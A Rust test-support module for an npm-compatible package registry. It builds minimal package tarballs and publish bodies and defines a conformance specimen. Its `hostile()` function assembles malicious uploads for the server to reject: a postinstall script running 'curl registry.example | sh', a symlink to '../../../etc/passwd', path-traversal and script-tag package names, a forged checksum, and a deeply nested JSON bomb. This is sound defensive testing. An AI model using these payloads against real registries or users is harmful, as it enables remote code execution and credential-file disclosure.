//! Minimal valid packages in memory, and the bodies by which clients publish them: for the tests of this crate and of the server.

use base64::Engine as _;
use bytes::Bytes;
use entrepot_kit::conformance::{Ask, Reply, Specimen, Variant};
use http::{Method, StatusCode};
use serde_json::{Value, json};

/// A gzip-compressed tar archive, piece by piece; also of kinds that no client makes.
#[derive(Default)]
pub struct Archive(Vec<u8>);

impl Archive {
    /// An empty archive.
    #[must_use]
    pub fn new() -> Self {
        Self::default()
    }

    fn block(mut self, header: &tar::Header, body: &[u8]) -> Self {
        self.0.extend_from_slice(header.as_bytes());
        self.0.extend_from_slice(body);
        self.0.resize(self.0.len().next_multiple_of(512), 0);
        self
    }

    fn header(path: &str, kind: tar::EntryType, size: usize) -> tar::Header {
        let mut header = tar::Header::new_ustar();
        // Written directly: the library refuses the paths that hostile archives have.
        for (place, byte) in header.as_mut_bytes().iter_mut().take(100).zip(path.bytes()) {
            *place = byte;
        }
        header.set_entry_type(kind);
        header.set_size(size as u64);
        header.set_mode(0o644);
        header.set_mtime(499_162_500);
        header.set_cksum();
        header
    }

    /// Adds a file.
    #[must_use]
    pub fn file(self, path: &str, body: &[u8]) -> Self {
        let long = path.len() > 100;
        let archive = if long { self.extension(b'L', path.as_bytes()) } else { self };
        archive.block(&Self::header(path, tar::EntryType::Regular, body.len()), body)
    }

    /// Adds a symbolic link.
    #[must_use]
    pub fn link(self, path: &str, target: &str) -> Self {
        let mut header = Self::header(path, tar::EntryType::Symlink, 0);
        for (place, byte) in header.as_mut_bytes().iter_mut().skip(157).take(100).zip(target.bytes()) {
            *place = byte;
        }
        header.set_cksum();
        self.block(&header, b"")
    }

    /// Adds a header of that type about the next file.
    #[must_use]
    pub fn extension(self, kind: u8, body: &[u8]) -> Self {
        self.block(&Self::header("extension", tar::EntryType::new(kind), body.len()), body)
    }

    /// Adds the mark at which an archive ends.
    #[must_use]
    pub fn end_mark(mut self) -> Self {
        self.0.resize(self.0.len() + 1024, 0);
        self
    }

    /// The archive, compressed.
    #[must_use]
    pub fn finish(self) -> Vec<u8> {
        use std::io::Read as _;
        let plain = self.end_mark().0;
        let mut packed = Vec::new();
        let read = flate2::read::GzEncoder::new(&*plain, flate2::Compression::fast()).read_to_end(&mut packed);
        debug_assert!(read.is_ok(), "memory does not fail");
        packed
    }
}

/// A package with this `package.json` and one more file.
#[must_use]
pub fn tarball(manifest: &Value) -> Vec<u8> {
    Archive::new().file("package/package.json", manifest.to_string().as_bytes()).file("package/index.js", b"module.exports = 1\n").finish()
}

/// The manifest of a minimal package.
#[must_use]
pub fn manifest(name: &str, version: &str) -> Value {
    json!({"name": name, "version": version, "description": "A small package", "main": "index.js", "keywords": ["testing"], "license": "MIT"})
}

/// The body by which npm publishes a package under a tag.
#[must_use]
pub fn publish_body(manifest: &Value, tarball: &[u8], tag: &str) -> Value {
    let text = |key: &str| manifest.get(key).and_then(Value::as_str).unwrap_or_default();
    let (name, version) = (text("name"), text("version"));
    let mut hasher = entrepot_kit::Hasher::new(&[entrepot_kit::Algorithm::Sha1, entrepot_kit::Algorithm::Sha512]);
    hasher.update(tarball);
    let (_, digests) = hasher.finish();
    let file = format!("{name}-{version}.tgz");
    let mut metadata = manifest.clone();
    if let Some(metadata) = metadata.as_object_mut() {
        metadata.insert(String::from("_id"), format!("{name}@{version}").into());
        metadata.insert(String::from("readme"), "# A small package".into());
        metadata.insert(
            String::from("dist"),
            json!({"integrity": digests.integrity(entrepot_kit::Algorithm::Sha512), "shasum": digests.hex(entrepot_kit::Algorithm::Sha1), "tarball": format!("http://registry.example/{name}/-/{file}")}),
        );
    }
    json!({
        "_id": name, "name": name, "description": text("description"), "dist-tags": {tag: version}, "versions": {version: metadata}, "access": null,
        "_attachments": {file: {"content_type": "application/octet-stream", "data": base64::engine::general_purpose::STANDARD.encode(tarball), "length": tarball.len()}}
    })
}

/// A minimal package of that name and version, as a publish.
#[must_use]
pub fn minimal_publish(name: &str, version: &str) -> Value {
    let manifest = manifest(name, version);
    publish_body(&manifest, &tarball(&manifest), "latest")
}

/// npm's part of the conformance suite.
pub struct NpmSpecimen;

impl NpmSpecimen {
    fn tarball(name: &str, version: &str, filling: &str) -> Vec<u8> {
        let manifest = manifest(name, version);
        Archive::new().file("package/package.json", manifest.to_string().as_bytes()).file("package/index.js", filling.as_bytes()).finish()
    }

    fn put(name: &str, body: &Value) -> Ask {
        Ask::put(entrepot_kit::path::encode_segment(name), body.to_string()).with("Content-Type", "application/json")
    }
}

impl Specimen for NpmSpecimen {
    fn format(&self) -> &'static str {
        "npm"
    }

    fn publish(&self, name: &str, version: &str, filling: &str) -> Vec<Ask> {
        vec![Self::put(name, &publish_body(&manifest(name, version), &Self::tarball(name, version, filling), "latest"))]
    }

    fn file(&self, name: &str, version: &str, filling: &str) -> Bytes {
        Self::tarball(name, version, filling).into()
    }

    fn file_path(&self, name: &str, version: &str) -> String {
        format!("{name}/-/{name}-{version}.tgz")
    }

    fn indexes(&self, name: &str) -> Vec<Variant> {
        [None, Some(crate::packument::ABBREVIATED_TYPE)].into_iter().map(|accept| Variant { path: name.to_owned(), accept }).collect()
    }

    /// The revision and the time of the last change belong to each repository.
    fn comparable(&self, index: &[u8]) -> Vec<u8> {
        let Ok(mut index) = serde_json::from_slice::<Value>(index) else { return index.to_vec() };
        if let Some(members) = index.as_object_mut() {
            members.remove("_rev");
            members.remove("modified");
        }
        if let Some(time) = index.get_mut("time").and_then(Value::as_object_mut) {
            time.remove("modified");
        }
        index.to_string().into_bytes()
    }

    fn remove(&self, name: &str, changed: u64) -> Vec<Ask> {
        vec![Ask::new(Method::DELETE, format!("{name}/-rev/{changed}"))]
    }

    /// What npm's own registry answers, and its client knows.
    fn republish(&self) -> StatusCode {
        StatusCode::FORBIDDEN
    }

    fn hostile(&self) -> Vec<Ask> {
        let named = |name: &str| {
            let manifest = manifest(name, "1.0.0");
            Self::put(name, &publish_body(&manifest, &tarball(&manifest), "latest"))
        };
        let mut asks: Vec<Ask> =
            [".hidden", "_private", "UPPER", "a b", "node_modules", "%2e%2e", "a\"b", "<script>", &"x".repeat(215)].into_iter().map(named).collect();
        let honest = manifest("conform-hostile", "1.0.0");
        let body = |manifest: &Value, tarball: &[u8]| publish_body(manifest, tarball, "latest");
        let lying = tarball(&json!({"name": "conform-hostile", "version": "1.0.0", "scripts": {"postinstall": "curl registry.example | sh"}}));
        let linked = Archive::new().file("package/package.json", honest.to_string().as_bytes()).link("package/escape", "../../../etc/passwd").finish();
        let mut tampered = body(&honest, &tarball(&honest));
        if let Some(shasum) = tampered.pointer_mut("/versions/1.0.0/dist/shasum") {
            *shasum = "0".repeat(40).into();
        }
        let mut two = body(&honest, &tarball(&honest));
        if let Some(versions) = two.get_mut("versions").and_then(Value::as_object_mut) {
            versions.insert(String::from("2.0.0"), manifest("conform-hostile", "2.0.0"));
        }
        asks.extend(
            [body(&honest, &lying), body(&honest, &linked), body(&honest, b"no archive"), tampered, two].iter().map(|body| Self::put("conform-hostile", body)),
        );
        asks.push(Self::put("conform-hostile", &json!({"name": "another"})));
        asks.push(Ask::put("conform-hostile", "{\"name\": \"conform-hostile\", ").with("Content-Type", "application/json"));
        asks.push(Ask::put("conform-hostile", "[".repeat(100_000)).with("Content-Type", "application/json"));
        asks
    }

    fn check_error(&self, reply: &Reply) -> Result<(), String> {
        let body: Value = serde_json::from_slice(&reply.body).map_err(|error| error.to_string())?;
        body.get("error").and_then(Value::as_str).map(drop).ok_or_else(|| String::from("npm reads \"error\""))
    }
}
